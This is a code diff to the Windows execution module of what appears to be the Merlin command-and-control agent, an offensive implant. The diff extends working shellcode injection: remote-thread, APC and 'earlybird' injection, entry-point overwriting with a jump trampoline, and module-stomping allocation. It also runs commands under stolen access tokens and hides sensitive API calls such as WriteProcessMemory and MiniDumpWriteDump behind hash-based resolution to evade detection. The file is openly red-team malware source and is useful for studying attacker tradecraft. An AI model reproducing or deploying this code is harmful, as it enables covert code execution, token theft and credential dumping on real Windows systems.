@@ -26,13 +26,11 @@ import (
 	// Standard
 	"encoding/base64"
 	"encoding/binary"
-	"errors"
 	"fmt"
 	"io/ioutil"
 	"os"
 	"os/exec"
 	"syscall"
-	"unicode/utf8"
 	"unsafe"
 
 	// X Packages
@@ -42,22 +40,59 @@ import (
 	"github.com/Ne0nd0g/merlin-agent/v2/os/windows/api/kernel32"
 	"github.com/Ne0nd0g/merlin-agent/v2/os/windows/api/ntdll"
 	"github.com/Ne0nd0g/merlin-agent/v2/os/windows/pkg/pipes"
+	"github.com/Ne0nd0g/merlin-agent/v2/os/windows/pkg/processes"
+	"github.com/Ne0nd0g/merlin-agent/v2/os/windows/pkg/resolve"
 	"github.com/Ne0nd0g/merlin-agent/v2/os/windows/pkg/text"
 	"github.com/Ne0nd0g/merlin-agent/v2/os/windows/pkg/tokens"
 )
 
 // executeCommand instruct an agent to execute a program on the host operating system
-func executeCommand(name string, args []string) (stdout string, stderr string) {
+// The process is created with any stolen or created Windows access token unless the options say otherwise
+func executeCommand(name string, args []string, opts execOptions) (stdout string, stderr string) {
+	var token windows.Token
+	if !opts.noToken {
+		token = tokens.Token
+	}
+
+	// Create a copy of the token that belongs to the requested session
+	if opts.session != nil {
+		hToken, err := tokens.DuplicateTokenForSession(token, *opts.session)
+		if err != nil {
+			stderr = fmt.Sprintf("there was an error creating a token for session %d: %s", *opts.session, err)
+			return
+		}
+		defer hToken.Close()
+		token = hToken
+	}
+
+	// Build the environment from the token user's environment block, if there is a token
+	base := os.Environ()
+	if token != 0 && (opts.clearEnv || len(opts.keep) > 0 || len(opts.env) > 0) {
+		var err error
+		base, err = token.Environ(false)
+		if err != nil {
+			stderr = fmt.Sprintf("there was an error retrieving the environment for the access token: %s", err)
+			return
+		}
+	}
+	env := opts.environ(base)
+
+	// The Go standard library can't set the STARTUPINFO lpDesktop member
+	if opts.desktop != "" {
+		return processes.CreateProcess(token, name, args, opts.desktop, env, true)
+	}
+
 	attr := &syscall.SysProcAttr{
 		HideWindow: true,
-		Token:      syscall.Token(tokens.Token),
+		Token:      syscall.Token(token),
 	}
-	return executeCommandWithAttributes(name, args, attr)
+	return executeCommandWithAttributes(name, args, attr, env)
 }
 
 // executeCommandWithAttributes starts the process with the provided system process attributes and returns the output
 // https://pkg.go.dev/syscall?GOOS=windows#SysProcAttr
-func executeCommandWithAttributes(name string, args []string, attr *syscall.SysProcAttr) (stdout string, stderr string) {
+// If env is nil, the process inherits the default environment
+func executeCommandWithAttributes(name string, args []string, attr *syscall.SysProcAttr, env []string) (stdout string, stderr string) {
 	application, err := exec.LookPath(name)
 	if err != nil {
 		stderr = fmt.Sprintf("there was an error resolving the absolute path for %s: %s", application, err)
@@ -67,22 +102,19 @@ func executeCommandWithAttributes(name string, args []string, attr *syscall.SysP
 	// #nosec G204 -- Subprocess must be launched with a variable
 	cmd := exec.Command(application, args...)
 	cmd.SysProcAttr = attr
+	cmd.Env = env
 
 	out, err := cmd.CombinedOutput()
 	if cmd.Process != nil {
 		stdout = fmt.Sprintf("Created %s process with an ID of %d\n", application, cmd.Process.Pid)
 	}
 
-	// Convert the output to a string
-	if utf8.Valid(out) {
-		stdout += string(out)
+	// Convert the output to a UTF-8 string
+	s, e := text.DecodeString(out)
+	if e != nil {
+		stderr = fmt.Sprintf("%s\n", e)
 	} else {
-		s, e := text.DecodeString(out)
-		if e != nil {
-			stderr = fmt.Sprintf("%s\n", e)
-		} else {
-			stdout += s
-		}
+		stdout += s
 	}
 
 	if err != nil {
@@ -93,10 +125,22 @@ func executeCommandWithAttributes(name string, args []string, attr *syscall.SysP
 }
 
 // ExecuteShellcodeSelf executes provided shellcode in the current process
-func ExecuteShellcodeSelf(shellcode []byte) error {
-	addr, err := windows.VirtualAlloc(uintptr(0), uintptr(len(shellcode)), windows.MEM_COMMIT|windows.MEM_RESERVE, windows.PAGE_READWRITE)
-	if err != nil {
-		return fmt.Errorf("commands/exec.ExecuteShellcodeSelf: there was an error calling Windows API VirtualAlloc: %s", err)
+func ExecuteShellcodeSelf(shellcode []byte, allocator string) error {
+	if arch := shellcodeArch(shellcode); arch != "" && arch != agentArch() {
+		return fmt.Errorf("commands/exec.ExecuteShellcodeSelf: the shellcode appears to be %s but the Agent is %s", arch, agentArch())
+	}
+	var addr uintptr
+	var err error
+	if stomp, _, _ := parseAllocator(allocator); stomp {
+		addr, err = allocate(windows.CurrentProcess(), len(shellcode), allocator, false)
+		if err != nil {
+			return fmt.Errorf("commands/exec.ExecuteShellcodeSelf: %s", err)
+		}
+	} else {
+		addr, err = windows.VirtualAlloc(uintptr(0), uintptr(len(shellcode)), windows.MEM_COMMIT|windows.MEM_RESERVE, windows.PAGE_READWRITE)
+		if err != nil {
+			return fmt.Errorf("commands/exec.ExecuteShellcodeSelf: there was an error calling Windows API VirtualAlloc: %s", err)
+		}
 	}
 
 	err = ntdll.RtlCopyMemory(addr, (uintptr)(unsafe.Pointer(&shellcode[0])), uint32(len(shellcode)))
@@ -119,7 +163,7 @@ func ExecuteShellcodeSelf(shellcode []byte) error {
 }
 
 // ExecuteShellcodeRemote executes provided shellcode in the provided target process
-func ExecuteShellcodeRemote(shellcode []byte, pid uint32) error {
+func ExecuteShellcodeRemote(shellcode []byte, pid uint32, allocator string) error {
 	// Setup OS environment, if any
 	err := Setup()
 	if err != nil {
@@ -134,13 +178,15 @@ func ExecuteShellcodeRemote(shellcode []byte, pid uint32) error {
 	}
 	defer windows.CloseHandle(handle)
 
-	addr, err := kernel32.VirtualAllocEx(uintptr(handle), 0, len(shellcode), windows.MEM_COMMIT|windows.MEM_RESERVE, windows.PAGE_READWRITE)
+	// Refuse architecture combinations that can't work instead of crashing the target process
+	wow64, err := injectable(handle, shellcode)
 	if err != nil {
 		return fmt.Errorf("commands/exec.ExecuteShellcodeRemote: %s", err)
 	}
 
-	if addr == 0 {
-		return errors.New("VirtualAllocEx failed and returned 0")
+	addr, err := allocate(handle, len(shellcode), allocator, wow64)
+	if err != nil {
+		return fmt.Errorf("commands/exec.ExecuteShellcodeRemote: %s", err)
 	}
 
 	var lpNumberOfBytesWritten uintptr
@@ -163,7 +209,7 @@ func ExecuteShellcodeRemote(shellcode []byte, pid uint32) error {
 }
 
 // ExecuteShellcodeRtlCreateUserThread executes provided shellcode in the provided target process using the Windows RtlCreateUserThread call
-func ExecuteShellcodeRtlCreateUserThread(shellcode []byte, pid uint32) error {
+func ExecuteShellcodeRtlCreateUserThread(shellcode []byte, pid uint32, allocator string) error {
 	// Setup OS environment, if any
 	err := Setup()
 	if err != nil {
@@ -178,13 +224,15 @@ func ExecuteShellcodeRtlCreateUserThread(shellcode []byte, pid uint32) error {
 	}
 	defer windows.CloseHandle(handle)
 
-	addr, err := kernel32.VirtualAllocEx(uintptr(handle), 0, len(shellcode), windows.MEM_COMMIT|windows.MEM_RESERVE, windows.PAGE_READWRITE)
+	// Refuse architecture combinations that can't work instead of crashing the target process
+	wow64, err := injectable(handle, shellcode)
 	if err != nil {
 		return fmt.Errorf("commands/exec.ExecuteShellcodeRtlCreateUserThread: %s", err)
 	}
 
-	if addr == 0 {
-		return errors.New("VirtualAllocEx failed and returned 0")
+	addr, err := allocate(handle, len(shellcode), allocator, wow64)
+	if err != nil {
+		return fmt.Errorf("commands/exec.ExecuteShellcodeRtlCreateUserThread: %s", err)
 	}
 
 	var lpNumberOfBytesWritten uintptr
@@ -214,7 +262,7 @@ func ExecuteShellcodeRtlCreateUserThread(shellcode []byte, pid uint32) error {
 }
 
 // ExecuteShellcodeQueueUserAPC executes provided shellcode in the provided target process using the Windows QueueUserAPC API call
-func ExecuteShellcodeQueueUserAPC(shellcode []byte, pid uint32) error {
+func ExecuteShellcodeQueueUserAPC(shellcode []byte, pid uint32, allocator string) error {
 	// TODO this can be local or remote
 
 	// Setup OS environment, if any
@@ -241,13 +289,15 @@ func ExecuteShellcodeQueueUserAPC(shellcode []byte, pid uint32) error {
 	}
 	defer windows.CloseHandle(handle)
 
-	addr, err := kernel32.VirtualAllocEx(uintptr(handle), 0, len(shellcode), windows.MEM_COMMIT|windows.MEM_RESERVE, windows.PAGE_READWRITE)
+	// Refuse architecture combinations that can't work instead of crashing the target process
+	wow64, err := injectable(handle, shellcode)
 	if err != nil {
 		return fmt.Errorf("commands/exec.ExecuteShellcodeQueueUserAPC: %s", err)
 	}
 
-	if addr == 0 {
-		return errors.New("VirtualAllocEx failed and returned 0")
+	addr, err := allocate(handle, len(shellcode), allocator, wow64)
+	if err != nil {
+		return fmt.Errorf("commands/exec.ExecuteShellcodeQueueUserAPC: %s", err)
 	}
 
 	var lpNumberOfBytesWritten uintptr
@@ -262,6 +312,12 @@ func ExecuteShellcodeQueueUserAPC(shellcode []byte, pid uint32) error {
 		return fmt.Errorf("commands/exec.ExecuteShellcodeQueueUserAPC: there was an error calling Windows API VirtualProtectEx: %s", err)
 	}
 
+	// APCs queued to a WoW64 process from a 64-bit Agent must be encoded to run as 32-bit code
+	apc := addr
+	if wow64 {
+		apc = wow64APC(addr)
+	}
+
 	threadEntry := windows.ThreadEntry32{
 		Size: uint32(unsafe.Sizeof(windows.ThreadEntry32{})),
 	}
@@ -291,7 +347,7 @@ func ExecuteShellcodeQueueUserAPC(shellcode []byte, pid uint32) error {
 					return fmt.Errorf("commands/exec.ExecuteShellcodeQueueUserAPC: there was an error calling Windows API OpenThread: %s", err)
 				}
 				//fmt.Printf("Queueing APC for PID: %d, Thread %d\n", pid, threadEntry.ThreadID)
-				err = kernel32.QueueUserAPC(addr, uintptr(hThread), 0)
+				err = kernel32.QueueUserAPC(apc, uintptr(hThread), 0)
 				if err != nil {
 					return fmt.Errorf("commands/exec.ExecuteShellcodeQueueUserAPC: %s", err)
 				}
@@ -309,22 +365,16 @@ func ExecuteShellcodeQueueUserAPC(shellcode []byte, pid uint32) error {
 }
 
 // ExecuteShellcodeCreateProcessWithPipe creates a child process, redirects STDOUT/STDERR to an anonymous pipe, injects/executes shellcode, and retrieves output
+// The technique is "earlybird" to queue an APC to the suspended child process's first thread, otherwise the child
+// process's entry point is overwritten.
 // Returns STDOUT and STDERR from process execution. Any encountered errors in this function are also returned in STDERR
-func ExecuteShellcodeCreateProcessWithPipe(sc string, spawnto string, args string) (stdout string, stderr string, err error) {
+func ExecuteShellcodeCreateProcessWithPipe(sc string, spawnto string, args string, technique string) (stdout string, stderr string, err error) {
 	// Base64 decode string into bytes
 	shellcode, errDecode := base64.StdEncoding.DecodeString(sc)
 	if errDecode != nil {
 		return stdout, stderr, fmt.Errorf("there  was an error decoding the Base64 string: %s", errDecode)
 	}
 
-	// Load DLLs and Procedures
-	kernel32 := windows.NewLazySystemDLL("kernel32.dll")
-	ntdll := windows.NewLazySystemDLL("ntdll.dll")
-	VirtualAllocEx := kernel32.NewProc("VirtualAllocEx")
-	VirtualProtectEx := kernel32.NewProc("VirtualProtectEx")
-	WriteProcessMemory := kernel32.NewProc("WriteProcessMemory")
-	NtQueryInformationProcess := ntdll.NewProc("NtQueryInformationProcess")
-
 	// Setup pipes to retrieve output
 	stdInRead, _, stdOutRead, stdOutWrite, stdErrRead, stdErrWrite, err := pipes.CreateAnonymousPipes()
 	if err != nil {
@@ -375,43 +425,101 @@ func ExecuteShellcodeCreateProcessWithPipe(sc string, spawnto string, args strin
 		stdout += fmt.Sprintf("Created %s process with an ID of %d\n", application, lpProcessInformation.ProcessId)
 	}
 
+	// Execute the shellcode when the child process resumes, by queuing an APC to its first thread before it runs or by
+	// overwriting its entry point
+	if technique == "earlybird" {
+		err = earlyBird(lpProcessInformation.Process, lpProcessInformation.Thread, shellcode)
+	} else {
+		err = entryPoint(lpProcessInformation.Process, lpProcessInformation.Thread, shellcode)
+	}
+	if err != nil {
+		_ = windows.TerminateProcess(lpProcessInformation.Process, 1)
+		return stdout, stderr, err
+	}
+
+	// Close the handle to the child process
+	errCloseProcHandle := windows.CloseHandle(lpProcessInformation.Process)
+	if errCloseProcHandle != nil {
+		return stdout, stderr, fmt.Errorf("error closing the child process handle:\r\n\t%s", errCloseProcHandle)
+	}
+
+	// Close the hand to the child process thread
+	errCloseThreadHandle := windows.CloseHandle(lpProcessInformation.Thread)
+	if errCloseThreadHandle != nil {
+		return stdout, stderr, fmt.Errorf("error closing the child process thread handle:\r\n\t%s", errCloseThreadHandle)
+	}
+
+	// Close the "write" pipe handles
+	err = pipes.ClosePipes(0, 0, 0, stdOutWrite, 0, stdErrWrite)
+	if err != nil {
+		stderr = err.Error()
+		return
+	}
+
+	// Read from the pipes
+	_, out, stderr, err := pipes.ReadPipes(0, stdOutRead, stdErrRead)
+	if err != nil {
+		stderr += err.Error()
+	}
+	stdout += out
+
+	// Close the "read" pipe handles
+	err = pipes.ClosePipes(stdInRead, 0, stdOutRead, 0, stdErrRead, 0)
+	if err != nil {
+		stderr += err.Error()
+		return
+	}
+	return
+}
+
+// entryPoint writes the shellcode into the suspended child process, overwrites the entry point of its executable with a
+// trampoline that jumps to the shellcode, and resumes the child process
+func entryPoint(process, thread windows.Handle, shellcode []byte) error {
+	// Load DLLs and Procedures
+	kernel32 := windows.NewLazySystemDLL("kernel32.dll")
+	ntdll := windows.NewLazySystemDLL("ntdll.dll")
+	VirtualAllocEx := resolve.NewProc(kernel32, 0xb5753801)         // VirtualAllocEx
+	VirtualProtectEx := resolve.NewProc(kernel32, 0x5c7ce2ab)       // VirtualProtectEx
+	WriteProcessMemory := resolve.NewProc(kernel32, 0x36aefff3)     // WriteProcessMemory
+	NtQueryInformationProcess := resolve.NewProc(ntdll, 0x38204b01) // NtQueryInformationProcess
+
 	// Allocate memory in child process
-	addr, _, errVirtualAlloc := VirtualAllocEx.Call(uintptr(lpProcessInformation.Process), 0, uintptr(len(shellcode)), windows.MEM_COMMIT|windows.MEM_RESERVE, windows.PAGE_READWRITE)
+	addr, _, errVirtualAlloc := VirtualAllocEx.Call(uintptr(process), 0, uintptr(len(shellcode)), windows.MEM_COMMIT|windows.MEM_RESERVE, windows.PAGE_READWRITE)
 
 	if errVirtualAlloc != nil && errVirtualAlloc.Error() != "The operation completed successfully." {
-		return stdout, stderr, fmt.Errorf("error calling VirtualAlloc:\r\n%s", errVirtualAlloc)
+		return fmt.Errorf("error calling VirtualAlloc:\r\n%s", errVirtualAlloc)
 	}
 
 	if addr == 0 {
-		return stdout, stderr, fmt.Errorf("VirtualAllocEx failed and returned 0")
+		return fmt.Errorf("VirtualAllocEx failed and returned 0")
 	}
 
 	// Write shellcode into child process memory
-	_, _, errWriteProcessMemory := WriteProcessMemory.Call(uintptr(lpProcessInformation.Process), addr, (uintptr)(unsafe.Pointer(&shellcode[0])), uintptr(len(shellcode)))
+	_, _, errWriteProcessMemory := WriteProcessMemory.Call(uintptr(process), addr, (uintptr)(unsafe.Pointer(&shellcode[0])), uintptr(len(shellcode)))
 
 	if errWriteProcessMemory != nil && errWriteProcessMemory.Error() != "The operation completed successfully." {
-		return stdout, stderr, fmt.Errorf("error calling WriteProcessMemory:\r\n%s", errWriteProcessMemory)
+		return fmt.Errorf("error calling WriteProcessMemory:\r\n%s", errWriteProcessMemory)
 	}
 
 	// Change memory permissions to RX in child process where shellcode was written
 	oldProtect := windows.PAGE_READWRITE
-	_, _, errVirtualProtectEx := VirtualProtectEx.Call(uintptr(lpProcessInformation.Process), addr, uintptr(len(shellcode)), windows.PAGE_EXECUTE_READ, uintptr(unsafe.Pointer(&oldProtect)))
+	_, _, errVirtualProtectEx := VirtualProtectEx.Call(uintptr(process), addr, uintptr(len(shellcode)), windows.PAGE_EXECUTE_READ, uintptr(unsafe.Pointer(&oldProtect)))
 	if errVirtualProtectEx != nil && errVirtualProtectEx.Error() != "The operation completed successfully." {
-		return stdout, stderr, fmt.Errorf("error calling VirtualProtectEx:\r\n%s", errVirtualProtectEx)
+		return fmt.Errorf("error calling VirtualProtectEx:\r\n%s", errVirtualProtectEx)
 	}
 
 	var processInformation PROCESS_BASIC_INFORMATION
 	var returnLength uintptr
-	ntStatus, _, errNtQueryInformationProcess := NtQueryInformationProcess.Call(uintptr(lpProcessInformation.Process), 0, uintptr(unsafe.Pointer(&processInformation)), unsafe.Sizeof(processInformation), returnLength)
+	ntStatus, _, errNtQueryInformationProcess := NtQueryInformationProcess.Call(uintptr(process), 0, uintptr(unsafe.Pointer(&processInformation)), unsafe.Sizeof(processInformation), returnLength)
 	if errNtQueryInformationProcess != nil && errNtQueryInformationProcess.Error() != "The operation completed successfully." {
-		return stdout, stderr, fmt.Errorf("error calling NtQueryInformationProcess:\r\n\t%s", errNtQueryInformationProcess)
+		return fmt.Errorf("error calling NtQueryInformationProcess:\r\n\t%s", errNtQueryInformationProcess)
 	}
 	if ntStatus != 0 {
 		if ntStatus == 3221225476 {
-			return stdout, stderr, fmt.Errorf("error calling NtQueryInformationProcess: STATUS_INFO_LENGTH_MISMATCH") // 0xc0000004 (3221225476)
+			return fmt.Errorf("error calling NtQueryInformationProcess: STATUS_INFO_LENGTH_MISMATCH") // 0xc0000004 (3221225476)
 		}
 		fmt.Println(fmt.Sprintf("[!]NtQueryInformationProcess returned NTSTATUS: %x(%d)", ntStatus, ntStatus))
-		return stdout, stderr, fmt.Errorf("error calling NtQueryInformationProcess:\r\n\t%s", syscall.Errno(ntStatus))
+		return fmt.Errorf("error calling NtQueryInformationProcess:\r\n\t%s", syscall.Errno(ntStatus))
 	}
 
 	// Read from PEB base address to populate the PEB structure
@@ -426,51 +534,51 @@ func ExecuteShellcodeCreateProcessWithPipe(sc string, spawnto string, args strin
 		);
 	*/
 
-	ReadProcessMemory := kernel32.NewProc("ReadProcessMemory")
+	ReadProcessMemory := resolve.NewProc(kernel32, 0xf5769ec6) // ReadProcessMemory
 
 	var peb PEB
 	var readBytes int32
 
-	_, _, errReadProcessMemory := ReadProcessMemory.Call(uintptr(lpProcessInformation.Process), processInformation.PebBaseAddress, uintptr(unsafe.Pointer(&peb)), unsafe.Sizeof(peb), uintptr(unsafe.Pointer(&readBytes)))
+	_, _, errReadProcessMemory := ReadProcessMemory.Call(uintptr(process), processInformation.PebBaseAddress, uintptr(unsafe.Pointer(&peb)), unsafe.Sizeof(peb), uintptr(unsafe.Pointer(&readBytes)))
 	if errReadProcessMemory != nil && errReadProcessMemory.Error() != "The operation completed successfully." {
-		return stdout, stderr, fmt.Errorf("error calling ReadProcessMemory:\r\n\t%s", errReadProcessMemory)
+		return fmt.Errorf("error calling ReadProcessMemory:\r\n\t%s", errReadProcessMemory)
 	}
 
 	var dosHeader IMAGE_DOS_HEADER
 	var readBytes2 int32
 
-	_, _, errReadProcessMemory2 := ReadProcessMemory.Call(uintptr(lpProcessInformation.Process), peb.ImageBaseAddress, uintptr(unsafe.Pointer(&dosHeader)), unsafe.Sizeof(dosHeader), uintptr(unsafe.Pointer(&readBytes2)))
+	_, _, errReadProcessMemory2 := ReadProcessMemory.Call(uintptr(process), peb.ImageBaseAddress, uintptr(unsafe.Pointer(&dosHeader)), unsafe.Sizeof(dosHeader), uintptr(unsafe.Pointer(&readBytes2)))
 	if errReadProcessMemory2 != nil && errReadProcessMemory2.Error() != "The operation completed successfully." {
-		return stdout, stderr, fmt.Errorf("error calling ReadProcessMemory:\r\n\t%s", errReadProcessMemory2)
+		return fmt.Errorf("error calling ReadProcessMemory:\r\n\t%s", errReadProcessMemory2)
 	}
 
 	// 23117 is the LittleEndian unsigned base10 representation of MZ
 	// 0x5a4d is the LittleEndian unsigned base16 representation of MZ
 	if dosHeader.Magic != 23117 {
-		return stdout, stderr, fmt.Errorf("DOS image header magic string was not MZ: 0x%x", dosHeader.Magic)
+		return fmt.Errorf("DOS image header magic string was not MZ: 0x%x", dosHeader.Magic)
 	}
 
 	// Read the child process's PE header signature to validate it is a PE
 	var Signature uint32
 	var readBytes3 int32
 
-	_, _, errReadProcessMemory3 := ReadProcessMemory.Call(uintptr(lpProcessInformation.Process), peb.ImageBaseAddress+uintptr(dosHeader.LfaNew), uintptr(unsafe.Pointer(&Signature)), unsafe.Sizeof(Signature), uintptr(unsafe.Pointer(&readBytes3)))
+	_, _, errReadProcessMemory3 := ReadProcessMemory.Call(uintptr(process), peb.ImageBaseAddress+uintptr(dosHeader.LfaNew), uintptr(unsafe.Pointer(&Signature)), unsafe.Sizeof(Signature), uintptr(unsafe.Pointer(&readBytes3)))
 	if errReadProcessMemory3 != nil && errReadProcessMemory3.Error() != "The operation completed successfully." {
-		return stdout, stderr, fmt.Errorf("error calling ReadProcessMemory:\r\n\t%s", errReadProcessMemory3)
+		return fmt.Errorf("error calling ReadProcessMemory:\r\n\t%s", errReadProcessMemory3)
 	}
 
 	// 17744 is Little Endian Unsigned 32-bit integer in decimal for PE (null terminated)
 	// 0x4550 is Little Endian Unsigned 32-bit integer in hex for PE (null terminated)
 	if Signature != 17744 {
-		return stdout, stderr, fmt.Errorf("PE Signature string was not PE: 0x%x", Signature)
+		return fmt.Errorf("PE Signature string was not PE: 0x%x", Signature)
 	}
 
 	var peHeader IMAGE_FILE_HEADER
 	var readBytes4 int32
 
-	_, _, errReadProcessMemory4 := ReadProcessMemory.Call(uintptr(lpProcessInformation.Process), peb.ImageBaseAddress+uintptr(dosHeader.LfaNew)+unsafe.Sizeof(Signature), uintptr(unsafe.Pointer(&peHeader)), unsafe.Sizeof(peHeader), uintptr(unsafe.Pointer(&readBytes4)))
+	_, _, errReadProcessMemory4 := ReadProcessMemory.Call(uintptr(process), peb.ImageBaseAddress+uintptr(dosHeader.LfaNew)+unsafe.Sizeof(Signature), uintptr(unsafe.Pointer(&peHeader)), unsafe.Sizeof(peHeader), uintptr(unsafe.Pointer(&readBytes4)))
 	if errReadProcessMemory4 != nil && errReadProcessMemory4.Error() != "The operation completed successfully." {
-		return stdout, stderr, fmt.Errorf("error calling ReadProcessMemory:\r\n\t%s", errReadProcessMemory4)
+		return fmt.Errorf("error calling ReadProcessMemory:\r\n\t%s", errReadProcessMemory4)
 	}
 
 	var optHeader64 IMAGE_OPTIONAL_HEADER64
@@ -479,15 +587,15 @@ func ExecuteShellcodeCreateProcessWithPipe(sc string, spawnto string, args strin
 	var readBytes5 int32
 
 	if peHeader.Machine == 34404 { // 0x8664
-		_, _, errReadProcessMemory5 = ReadProcessMemory.Call(uintptr(lpProcessInformation.Process), peb.ImageBaseAddress+uintptr(dosHeader.LfaNew)+unsafe.Sizeof(Signature)+unsafe.Sizeof(peHeader), uintptr(unsafe.Pointer(&optHeader64)), unsafe.Sizeof(optHeader64), uintptr(unsafe.Pointer(&readBytes5)))
+		_, _, errReadProcessMemory5 = ReadProcessMemory.Call(uintptr(process), peb.ImageBaseAddress+uintptr(dosHeader.LfaNew)+unsafe.Sizeof(Signature)+unsafe.Sizeof(peHeader), uintptr(unsafe.Pointer(&optHeader64)), unsafe.Sizeof(optHeader64), uintptr(unsafe.Pointer(&readBytes5)))
 	} else if peHeader.Machine == 332 { // 0x14c
-		_, _, errReadProcessMemory5 = ReadProcessMemory.Call(uintptr(lpProcessInformation.Process), peb.ImageBaseAddress+uintptr(dosHeader.LfaNew)+unsafe.Sizeof(Signature)+unsafe.Sizeof(peHeader), uintptr(unsafe.Pointer(&optHeader32)), unsafe.Sizeof(optHeader32), uintptr(unsafe.Pointer(&readBytes5)))
+		_, _, errReadProcessMemory5 = ReadProcessMemory.Call(uintptr(process), peb.ImageBaseAddress+uintptr(dosHeader.LfaNew)+unsafe.Sizeof(Signature)+unsafe.Sizeof(peHeader), uintptr(unsafe.Pointer(&optHeader32)), unsafe.Sizeof(optHeader32), uintptr(unsafe.Pointer(&readBytes5)))
 	} else {
-		return stdout, stderr, fmt.Errorf("unknow IMAGE_OPTIONAL_HEADER type for machine type: 0x%x", peHeader.Machine)
+		return fmt.Errorf("unknow IMAGE_OPTIONAL_HEADER type for machine type: 0x%x", peHeader.Machine)
 	}
 
 	if errReadProcessMemory5 != nil && errReadProcessMemory5.Error() != "The operation completed successfully." {
-		return stdout, stderr, fmt.Errorf("error calling ReadProcessMemory:\r\n\t%s", errReadProcessMemory5)
+		return fmt.Errorf("error calling ReadProcessMemory:\r\n\t%s", errReadProcessMemory5)
 	}
 
 	// Overwrite the value at AddressofEntryPoint field with trampoline to load the shellcode address in RAX/EAX and jump to it
@@ -497,7 +605,7 @@ func ExecuteShellcodeCreateProcessWithPipe(sc string, spawnto string, args strin
 	} else if peHeader.Machine == 332 { // 0x14c x86
 		ep = peb.ImageBaseAddress + uintptr(optHeader32.AddressOfEntryPoint)
 	} else {
-		return stdout, stderr, fmt.Errorf("unknow IMAGE_OPTIONAL_HEADER type for machine type: 0x%x", peHeader.Machine)
+		return fmt.Errorf("unknow IMAGE_OPTIONAL_HEADER type for machine type: 0x%x", peHeader.Machine)
 	}
 
 	var epBuffer []byte
@@ -516,58 +624,25 @@ func ExecuteShellcodeCreateProcessWithPipe(sc string, spawnto string, args strin
 		binary.LittleEndian.PutUint32(shellcodeAddressBuffer, uint32(addr))
 		epBuffer = append(epBuffer, shellcodeAddressBuffer...)
 	} else {
-		return stdout, stderr, fmt.Errorf("unknow IMAGE_OPTIONAL_HEADER type for machine type: 0x%x", peHeader.Machine)
+		return fmt.Errorf("unknow IMAGE_OPTIONAL_HEADER type for machine type: 0x%x", peHeader.Machine)
 	}
 
 	// 0xff ; 0xe0 = jmp [r|e]ax
 	epBuffer = append(epBuffer, byte(0xff))
 	epBuffer = append(epBuffer, byte(0xe0))
 
-	_, _, errWriteProcessMemory2 := WriteProcessMemory.Call(uintptr(lpProcessInformation.Process), ep, uintptr(unsafe.Pointer(&epBuffer[0])), uintptr(len(epBuffer)))
+	_, _, errWriteProcessMemory2 := WriteProcessMemory.Call(uintptr(process), ep, uintptr(unsafe.Pointer(&epBuffer[0])), uintptr(len(epBuffer)))
 
 	if errWriteProcessMemory2 != nil && errWriteProcessMemory2.Error() != "The operation completed successfully." {
-		return stdout, stderr, fmt.Errorf("error calling WriteProcessMemory:\r\n%s", errWriteProcessMemory2)
+		return fmt.Errorf("error calling WriteProcessMemory:\r\n%s", errWriteProcessMemory2)
 	}
 
 	// Resume the child process
-	_, errResumeThread := windows.ResumeThread(lpProcessInformation.Thread)
+	_, errResumeThread := windows.ResumeThread(thread)
 	if errResumeThread != nil {
-		return stdout, stderr, fmt.Errorf("[!]Error calling ResumeThread:\r\n%s", errResumeThread)
-	}
-
-	// Close the handle to the child process
-	errCloseProcHandle := windows.CloseHandle(lpProcessInformation.Process)
-	if errCloseProcHandle != nil {
-		return stdout, stderr, fmt.Errorf("error closing the child process handle:\r\n\t%s", errCloseProcHandle)
+		return fmt.Errorf("[!]Error calling ResumeThread:\r\n%s", errResumeThread)
 	}
-
-	// Close the hand to the child process thread
-	errCloseThreadHandle := windows.CloseHandle(lpProcessInformation.Thread)
-	if errCloseThreadHandle != nil {
-		return stdout, stderr, fmt.Errorf("error closing the child process thread handle:\r\n\t%s", errCloseThreadHandle)
-	}
-
-	// Close the "write" pipe handles
-	err = pipes.ClosePipes(0, 0, 0, stdOutWrite, 0, stdErrWrite)
-	if err != nil {
-		stderr = err.Error()
-		return
-	}
-
-	// Read from the pipes
-	_, out, stderr, err := pipes.ReadPipes(0, stdOutRead, stdErrRead)
-	if err != nil {
-		stderr += err.Error()
-	}
-	stdout += out
-
-	// Close the "read" pipe handles
-	err = pipes.ClosePipes(stdInRead, 0, stdOutRead, 0, stdErrRead, 0)
-	if err != nil {
-		stderr += err.Error()
-		return
-	}
-	return
+	return nil
 }
 
 // TODO always close handle during exception handling
@@ -630,7 +705,7 @@ func miniDump(tempDir string, process string, inPid uint32) (map[string]interfac
 
 	// Load MiniDumpWriteDump function from DbgHelp.dll
 	k32 := windows.NewLazySystemDLL("DbgHelp.dll")
-	miniDump := k32.NewProc("MiniDumpWriteDump")
+	miniDump := resolve.NewProc(k32, 0x61c8b682) // MiniDumpWriteDump
 
 	/*
 		BOOL MiniDumpWriteDump(
@@ -715,9 +790,9 @@ func sePrivEnable(s string) error {
 	}
 
 	modadvapi32 := windows.NewLazySystemDLL("advapi32.dll")
-	procAdjustTokenPrivileges := modadvapi32.NewProc("AdjustTokenPrivileges")
+	procAdjustTokenPrivileges := resolve.NewProc(modadvapi32, 0x2f8aaab0) // AdjustTokenPrivileges
 
-	procLookupPriv := modadvapi32.NewProc("LookupPrivilegeValueW")
+	procLookupPriv := resolve.NewProc(modadvapi32, 0xf827f1c7) // LookupPrivilegeValueW
 	var tokenHandle syscall.Token
 	thsHandle, err := syscall.GetCurrentProcess()
 	if err != nil {